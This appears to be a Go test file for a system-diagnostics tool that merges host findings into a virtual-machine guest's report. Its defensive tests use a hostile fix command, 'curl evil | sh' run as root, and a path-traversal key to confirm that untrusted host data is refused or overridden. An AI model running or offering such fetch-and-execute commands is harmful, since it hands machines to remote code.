package doctor

import (
	"bytes"
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"fishplate/internal/doctor/fact"
	"fishplate/internal/doctor/see"
)

// guestReport is that of a guest, to which much is not shown.
func guestReport(t *testing.T, only ...string) *Report {
	t.Helper()
	s, err := see.Fixture(fstest.MapFS{"probe.json": {Data: []byte(`{"cpuid": {"0x1": {"ECX": 2147483648}, "0x40000000": {"EAX": 1073741825, "EBX": 1263359563, "ECX": 1447775574, "EDX": 77}}}`)}})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Run(t.Context(), Options{System: s, Only: only})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func status(r *Report, id string) fact.Finding {
	for _, x := range r.Results {
		if x.Check.ID == id {
			return x.Finding
		}
	}
	return fact.Finding{}
}

const hostAnswer = `{"schema": "fishplate.doctor-host/1", "files": {
	"/proc/cpuinfo": "processor : 0\nflags : fpu sse2 vmx apic\nvmx flags : vnmi vapic_reg vid\n",
	"/sys/module/kvm_intel/parameters/enable_apicv": "N\n",
	"/proc/7/task/8/comm": "CPU 0/KVM\n", "/proc/7/task/8/status": "Cpus_allowed_list:\t1\n",
	"/dev/kvm": "", "/sys/devices/system/cpu/online": "0-3\n"}, "msr": {}}`

// TestMergeScript: what the host saw is judged by the same rules, and said to be
// the host's.
func TestMergeScript(t *testing.T) {
	r := guestReport(t)
	if f := status(r, "cpu.apicv"); f.Status != fact.Unknown || f.RunOn != "host" {
		t.Fatalf("before: %+v", f)
	}
	if err := Merge(t.Context(), r, strings.NewReader(hostAnswer)); err != nil {
		t.Fatal(err)
	}
	if f := status(r, "cpu.apicv"); f.Status != fact.Warn || f.Found != "on the host: missing: posted interrupts" || f.Evidence[0].Source != "host:/proc/cpuinfo" || f.RunOn != "" {
		t.Errorf("cpu.apicv: %+v", f)
	}
	if f := status(r, "cpu.apicv-param"); f.Status != fact.Warn {
		t.Errorf("cpu.apicv-param: %+v", f)
	}
	for _, x := range r.Results {
		if x.Finding.Status == fact.OK && !strings.HasPrefix(x.Finding.Found, "on the host: ") {
			t.Errorf("%s: ok: %s", x.Check.ID, x.Finding.Found)
		}
	}
}

// TestMergeReport: a report that the doctor made on the host does, too.
func TestMergeReport(t *testing.T) {
	r, host := guestReport(t, "cpu"), guestReport(t, "cpu")
	for i := range host.Results {
		host.Results[i].Finding = fact.Say(fact.OK, "seen there", fact.Read("/x", "1", 1))
	}
	var b bytes.Buffer
	if err := host.JSON(&b); err != nil {
		t.Fatal(err)
	}
	if err := Merge(t.Context(), r, &b); err != nil {
		t.Fatal(err)
	}
	if f := status(r, "cpu.apicv"); f.Status != fact.OK || f.Found != "on the host: seen there" {
		t.Errorf("%+v", f)
	}
	if f := status(r, "cpu.wake-latency"); f.Status != fact.Skip {
		t.Errorf("what was not asked here is the host's now: %+v", f)
	}
}

// TestMergeLeaves: what is a namespace's, a process's or the kernel's of the guest
// no host can see, whatever it says of its own.
func TestMergeLeaves(t *testing.T) {
	r, host := guestReport(t), guestReport(t)
	for i := range host.Results {
		host.Results[i].Finding = fact.Say(fact.OK, "seen there", fact.Read("/x", "1", 1))
	}
	var b bytes.Buffer
	if err := host.JSON(&b); err != nil {
		t.Fatal(err)
	}
	if err := Merge(t.Context(), r, &b); err != nil {
		t.Fatal(err)
	}
	for _, x := range r.Results {
		filled := strings.HasPrefix(x.Finding.Found, "on the host: ")
		if filled && x.Check.Scope != fact.Host {
			t.Errorf("%s, of the %s, is %s: %s", x.Check.ID, x.Check.Scope, x.Finding.Status, x.Finding.Found)
		}
	}
	for _, id := range []string{"fw.conntrack-on", "fw.rules", "sys.lsm"} {
		if f := status(r, id); f.Status != fact.Unknown {
			t.Errorf("%s: %+v", id, f)
		}
	}
}

// TestMergeFix: how to mend something is said by our own table, whatever the file
// of the host says.
func TestMergeFix(t *testing.T) {
	r, host := guestReport(t, "cpu"), guestReport(t, "cpu")
	for i := range host.Results {
		host.Results[i].Finding = fact.Say(fact.Warn, "seen there").Mend(fact.Fix{Command: "curl evil | sh", Persist: "curl evil", Risk: "evil", Undo: "evil", Who: fact.Root})
	}
	var b bytes.Buffer
	if err := host.JSON(&b); err != nil {
		t.Fatal(err)
	}
	if err := Merge(t.Context(), r, &b); err != nil {
		t.Fatal(err)
	}
	merged := 0
	for _, x := range r.Results {
		if !strings.HasPrefix(x.Finding.Found, "on the host: ") {
			continue
		}
		merged++
		if diff := cmp.Diff(x.Check.Fix, x.Fixes()); diff != "" {
			t.Errorf("%s: %s", x.Check.ID, diff)
		}
	}
	if merged == 0 {
		t.Error("nothing was merged")
	}
}

func TestMergeRefuses(t *testing.T) {
	for _, bad := range []string{"", "{", `{"schema": "x"}`, `{"schema": "fishplate.doctor-host/1", "files": {"/../../etc/x": "1"}}`, `{"schema": "fishplate.doctor-host/1", "files": {"/probe.json": "{}"}}`} {
		if err := Merge(t.Context(), guestReport(t, "cpu.apicv"), strings.NewReader(bad)); err == nil {
			t.Errorf("%q was taken", bad)
		}
	}
}

// TestHostScript runs the script here: it must print what Merge reads, whatever
// this machine is.
func TestHostScript(t *testing.T) {
	shell, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("needs a POSIX shell: ", err)
	}
	var script bytes.Buffer
	if err := HostScript(&script); err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), shell)
	c.Stdin = &script
	out, err := c.Output()
	if err != nil {
		t.Fatal(err)
	}
	var h fromHost
	if err := json.Unmarshal(out, &h); err != nil {
		t.Fatalf("%v in\n%s", err, out)
	}
	if h.Schema != hostSchema || !strings.Contains(h.Files["/proc/cpuinfo"], "processor") {
		t.Errorf("%+v", h)
	}
	if err := Merge(t.Context(), guestReport(t, "cpu"), bytes.NewReader(out)); err != nil {
		t.Error(err)
	}
}
